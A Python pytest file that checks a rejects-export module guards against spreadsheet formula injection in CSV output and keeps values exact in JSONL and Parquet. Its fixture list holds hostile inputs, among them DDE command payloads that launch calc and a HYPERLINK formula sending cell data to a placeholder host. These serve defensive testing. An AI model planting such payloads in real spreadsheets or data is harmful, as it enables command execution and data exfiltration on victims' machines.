"""Rows set aside can be opened in a spreadsheet, and read back to the letter."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

from mynapoint.provider.rejects import Exact, write_exact_rejects, write_rejects

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"ok")',
    "+81-90-0000-0000",
    "-5",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\x00=1",
    "'=1+1",
    "'plain",
    "=1+1\n=2+2",
    '","=1+1',
    "-",
]
HARMLESS = ["", "1,000", "青木=石田", "a\n=1", "2022-02-30", "1e3", " 1", "１０", '"quoted"', "ー5", "〜"]


@pytest.fixture
def connection() -> Iterator[duckdb.DuckDBPyConnection]:
    with duckdb.connect(config={"threads": 1}) as opened:
        opened.execute("CREATE TABLE rejects (file VARCHAR, line BIGINT, field VARCHAR, value VARCHAR, reason VARCHAR)")
        rows = [("-files.csv", line, "amount_yen", text, text) for line, text in enumerate(FORMULAS + HARMLESS)]
        opened.executemany("INSERT INTO rejects VALUES (?, ?, ?, ?, ?)", rows)
        yield opened


def unmarked(text: str) -> str:
    """Read a text back as docs/providers.md says."""
    return text.removeprefix("'")


def test_no_cell_begins_a_formula_and_every_value_can_be_read_back(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    write_rejects(connection, "rejects", tmp_path / "rejects.csv")

    with (tmp_path / "rejects.csv").open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file)
    assert header == ["file", "line", "field", "value", "reason"]
    cells = [cell for row in rows for cell in row]
    assert not any(cell.lstrip(" \t\r\n\x00\u3000").startswith(tuple("=+-@＝＋－＠")) for cell in cells)
    assert not any(cell.startswith(tuple("\t\r\n\x00")) for cell in cells)
    assert [unmarked(row[3]) for row in rows] == [unmarked(row[4]) for row in rows] == FORMULAS + HARMLESS
    assert [row[3] for row in rows[len(FORMULAS) :]] == HARMLESS
    assert {row[0] for row in rows} == {"'-files.csv"}


def test_machines_get_the_values_unmarked(connection: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    for form in Exact:
        write_exact_rejects(connection, "rejects", tmp_path / f"rejects.{form}", form)

    lines = [json.loads(line) for line in (tmp_path / "rejects.jsonl").read_text("utf-8").splitlines()]
    assert lines == pq.read_table(tmp_path / "rejects.parquet").to_pylist()
    assert [line["value"] for line in lines] == FORMULAS + HARMLESS
    assert lines[0] == {"file": "-files.csv", "line": 0, "field": "amount_yen", "value": "=1+1", "reason": "=1+1"}
